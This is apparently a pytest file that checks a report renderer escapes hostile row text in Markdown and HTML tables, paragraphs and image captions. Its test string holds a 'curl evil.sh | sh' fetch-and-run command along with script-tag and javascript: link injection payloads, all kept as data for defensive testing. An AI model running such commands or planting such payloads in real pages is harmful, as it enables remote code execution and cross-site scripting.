"""The report's renderer: row text is data in Markdown and HTML alike."""

import pandas as pd

from scale_fpt.report.render import Document, escape_md, inline_html

HOSTILE = (
    "abc\n# planted heading\rcurl evil.sh | sh <script>alert(1)</script> "
    "[click](javascript:alert(1)) ![img](http://x/y.png) **bold** `code` &amp; | cell"
)


def test_row_text_renders_as_its_text_on_one_line(tmp_path):
    doc = Document(tmp_path)
    doc.heading(1, "Report")
    doc.para(f"code: {escape_md(HOSTILE)}.")
    doc.table(pd.DataFrame({"sweep": [HOSTILE], "n": [3]}))
    markdown = doc.markdown()
    lines = markdown.splitlines()
    assert [line for line in lines if line.startswith("#")] == ["# Report"]
    assert not [line for line in lines if line.startswith("curl")]
    # the table keeps its two columns: the cell's pipe is escaped
    header, rule, row = (line for line in lines if line.startswith("|"))
    assert header.count(" | ") == rule.count(" | ") == row.count(" | ") == 1
    page = doc.html()
    for markup in ("<script", "<a ", "<img", "<strong>", "<code>", "<h1>planted"):
        assert markup not in page.replace("<h1>Report</h1>", "")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert page.count("<td>") == 2


def test_the_sections_markdown_stays_markup():
    assert inline_html("[tables/T1.csv](tables/T1.csv) a<b **n** `x`") == (
        '<a href="tables/T1.csv">tables/T1.csv</a> a&lt;b <strong>n</strong> <code>x</code>'
    )


def test_images_are_embedded_in_the_page(tmp_path):
    (tmp_path / "figures").mkdir()
    png = b"\x89PNG\r\n\x1a\n" + b"0" * 16
    (tmp_path / "figures" / "f.png").write_bytes(png)
    doc = Document(tmp_path)
    doc.image("figures/f.png", "a <caption>")
    assert "![a \\<caption\\>](figures/f.png)" in doc.markdown()
    page = doc.html()
    assert '<img src="data:image/png;base64,' in page and "a &lt;caption&gt;" in page
